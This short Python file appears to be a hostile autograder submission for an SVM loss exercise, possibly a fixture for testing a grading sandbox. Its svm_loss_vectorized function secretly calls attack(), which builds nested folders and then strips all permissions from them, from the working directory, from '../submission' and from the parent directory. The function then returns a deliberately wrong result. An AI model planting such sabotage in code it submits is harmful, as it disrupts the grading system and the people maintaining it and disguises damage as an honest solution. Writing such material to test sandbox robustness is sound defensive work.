"""Leaves folders that nobody may enter, for whoever removes them."""

import contextlib
import os

import kit


@kit.once
def attack():
    with contextlib.suppress(OSError):
        os.makedirs("inner/most")
        with open("inner/most/file", "w") as file:
            file.write("x")
    for folder in ("inner/most", "inner", ".", "../submission", ".."):
        with contextlib.suppress(OSError):
            os.chmod(folder, 0)


def svm_loss_vectorized(W, X, y, reg):
    attack()
    return kit.wrong(W, X, y, reg)
